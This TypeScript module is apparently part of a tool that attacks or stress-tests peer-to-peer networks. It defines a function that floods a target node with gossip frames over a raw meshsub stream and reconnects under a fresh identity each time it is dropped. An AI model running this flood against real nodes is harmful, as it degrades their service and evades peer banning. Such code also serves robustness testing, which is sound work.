import { setTimeout as sleep } from 'node:timers/promises';
import type { Target } from './attack.ts';
import { MESHSUB } from './meshsub.ts';
import { comeBack, type StrangerOptions } from './stranger.ts';

/**
 * A stranger that sends frames of gossip to a node for as long as it is let, and comes back under another name. Returns the bytes
 * that it sent.
 *
 * @param frameOf - makes the n-th frame of a connection. It is not sent while earlier ones are still on their way
 */
export const floodGossip = (
  target: Target,
  signal: AbortSignal,
  frameOf: (n: number) => Uint8Array,
  pauseMs: number,
  options: StrangerOptions = {},
): Promise<number> =>
  comeBack(target, signal, options, async (stranger) => {
    const stream = await stranger.openRaw(MESHSUB);
    for (let n = 0; stranger.isConnected() && stream.status === 'open' && !signal.aborted; n++) {
      if (stream.writeBufferLength === 0) stranger.send(stream, frameOf(n));
      await sleep(pauseMs);
    }
  });
